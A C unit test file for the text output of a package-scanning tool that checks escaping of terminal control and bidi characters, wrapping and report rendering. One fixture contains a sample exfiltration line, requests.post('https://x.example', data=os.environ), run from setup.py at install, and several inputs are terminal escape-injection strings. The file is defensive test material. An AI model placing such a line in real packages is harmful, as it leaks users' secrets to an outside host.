/* SPDX-License-Identifier: Apache-2.0 */
#include "cli/outputs/output.h"

#include "tap.h"

static tw_buf shown;

static tw_str put(const char *s, size_t n, unsigned columns)
{
    tw_buf_clear(&shown);
    tw_term_put(&shown, (tw_str){s, n}, columns);
    return tw_buf_str(&shown);
}
#define PUT(lit, columns) put(lit, sizeof(lit) - 1, columns)

TEST(hostile_text_is_shown_not_obeyed)
{
    CHECK_STR(PUT("plain", 0), TW_S("plain"));
    CHECK_STR(PUT("\033[2J\033]0;x\007", 0), TW_S("\\x1b[2J\\x1b]0;x\\x07"));
    CHECK_STR(PUT("a\nb\tc\rd", 0), TW_S("a b c\\x0dd"));
    CHECK_STR(PUT("\x7f\0z", 0), TW_S("\\x7f\\x00z"));
    CHECK_STR(PUT("\xc2\x9b"
                  "31m",
                  0),
              TW_S("\\x9b31m")); /* C1: CSI in one character */
    CHECK_STR(PUT("a\xe2\x80\xae"
                  "b",
                  0),
              TW_S("a\\u{202e}b"));                                              /* right-to-left override */
    CHECK_STR(PUT("a\xe2\x81\xa6\xe2\x80\x8b", 0), TW_S("a\\u{2066}\\u{200b}")); /* isolate, zero width */
    CHECK_STR(PUT("\xff\xc0\xaf", 0), TW_S("\\xff\\xc0\\xaf"));
    CHECK_STR(PUT("\xe2\x80\xa8", 0), TW_S("\\u{2028}"));
}

TEST(columns_are_counted)
{
    CHECK_STR(PUT("0123456789", 10), TW_S("0123456789"));
    CHECK_STR(PUT("0123456789a", 10), TW_S("0123456..."));
    CHECK_STR(PUT("\xe6\xbc\xa2\xe6\xbc\xa2\xe6\xbc\xa2", 5), TW_S("\xe6\xbc\xa2...")); /* two columns each */
    CHECK_STR(PUT("e\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81", 0),
              TW_S("e\xcc\x81\xcc\x81\xcc\x81\xcc\x81"));
}

TEST(words_wrap_at_eighty)
{
    tw_buf_clear(&shown);
    tw_buf s = TW_BUF_INIT;
    for (int i = 0; i < 40; i++) tw_buf_puts(&s, TW_S("word "));
    tw_term_wrap(&shown, tw_buf_str(&s), 5, 5);
    tw_str rest = tw_buf_str(&shown);
    int lines = 0;
    for (tw_str line; tw_str_split(&rest, '\n', &line); lines++) {
        CHECK(line.n + (lines ? 0 : 5) <= 80);
        CHECK(!lines || tw_str_starts(line, TW_S("     word")));
    }
    CHECK_INT(lines, 3);
    tw_buf_free(&s);
}

#define HEAD "{\"schema\":\"tidewaiter.report/1\",\"artifact\":\"x\",\"subject\":{\"members\":3},\"summary\":"
#define TAIL                                                                                        \
    ",\"complete\":true,\"coverage\":{\"bytes\":{\"analysed\":2048,\"unanalysed\":0},\"gaps\":[]}," \
    "\"errors\":[],\"stats\":{\"files\":3}}"

static tw_str render(const char *report, tw_level level, bool several, bool colour)
{
    static tw_item item = {.artifact = TW_SI("dist/demo\033[31m.whl")};
    tw_sink s = {.arena = tw_arena_new(0), .several = several, .colour = colour};
    tw_result r = {.item = &item, .level = level, .report = tw_str_c(report), .opened = true};
    tw_output_text.result(&s, &r);
    tw_buf_clear(&shown);
    tw_buf_puts(&shown, tw_buf_str(&s.out));
    tw_buf_free(&s.out);
    tw_arena_free(s.arena);
    return tw_buf_str(&shown);
}

static bool has(tw_str s, const char *part)
{
    return tw_str_find(s, tw_str_c(part)) != TW_NPOS;
}

static void check_lines(tw_str s)
{
    for (tw_str line; tw_str_split(&s, '\n', &line);) {
        CHECK(line.n <= 80); /* all of it is ASCII here */
        for (size_t i = 0; i < line.n; i++) CHECK(line.p[i] >= 0x20 && line.p[i] < 0x7f);
    }
}

TEST(a_malicious_report)
{
    static const char report[] = HEAD
        "\"Steals \\u001b[5m "
        "things\",\"behaviours\":[{\"id\":\"a.b\",\"trigger\":\"install\",\"reason\":\"setup.py\","
        "\"says\":\"sends environment variables to a host\",\"check\":\"is the host the project's "
        "own?\",\"evidence\":["
        "{\"member\":\"very/long/path/of/a/member/that/has/no/end/setup.py\",\"line\":14,\"off\":3,"
        "\"snippet\":\"requests.post('https://x.example', data=os.environ)  # and a long line that goes on "
        "and on\"},"
        "{\"more\":7}]}],\"findings\":[{\"id\":\"f\",\"severity\":\"info\",\"says\":\"dull\",\"places\":[]},"
        "{\"id\":\"f\",\"severity\":\"bad\",\"says\":\"a name leaves the "
        "archive\",\"places\":[{\"member\":\"../x\"}]}]" TAIL;
    tw_str out = render(report, TW_LEVEL_MALICIOUS, false, false);
    check_lines(out);
    CHECK(tw_str_starts(out, TW_S("MALICIOUS      dist/demo\\x1b[31m.whl\n  Steals \\x1b[5m things\n")));
    CHECK(has(out, "1. sends environment variables to a host [at install: setup.py]"));
    CHECK(has(out, "setup.py:14  requests.post("));
    CHECK(has(out, "(7 more)"));
    CHECK(has(out, "Check: is the host"));
    CHECK(has(out, "a name leaves the archive (../x)"));
    CHECK(!has(out, "dull"));
    CHECK(has(out, "complete: 3 files, 2.0 KiB"));
    CHECK(!has(out, "NOT complete"));
    CHECK(has(render(report, TW_LEVEL_MALICIOUS, false, true), "\033[1;31mMALICIOUS\033[0m"));
}

TEST(what_was_not_read_is_said)
{
    static const char report[] = HEAD "\"Nothing "
                                      "found\",\"complete\":false,\"coverage\":{\"bytes\":{\"analysed\":5,"
                                      "\"unanalysed\":3000000},\"gaps\":["
                                      "{\"member\":\"a.so\",\"reason\":\"native\",\"runs\":\"import\"},{"
                                      "\"member\":\"b\",\"reason\":\"dynamic\",\"runs\":null},"
                                      "{\"more\":4}]},\"errors\":[],\"stats\":{\"files\":2}}";
    tw_str out = render(report, TW_LEVEL_CLEAR, false, false);
    check_lines(out);
    CHECK(has(out, "not read     a.so: machine code, which is not analysed: only what"));
    CHECK(has(out, "(5 more places not followed"));
    CHECK(has(out,
              "NOT complete: 2 files, 5 bytes of code and metadata; 2.9 MiB not\n               analysed\n"));
}

TEST(clear_among_several_takes_one_line)
{
    tw_str out = render(HEAD "\"Nothing found\"" TAIL, TW_LEVEL_CLEAR, true, false);
    CHECK_STR(out, TW_S("clear          dist/demo\\x1b[31m.whl\n"));
}

TESTS_MAIN()
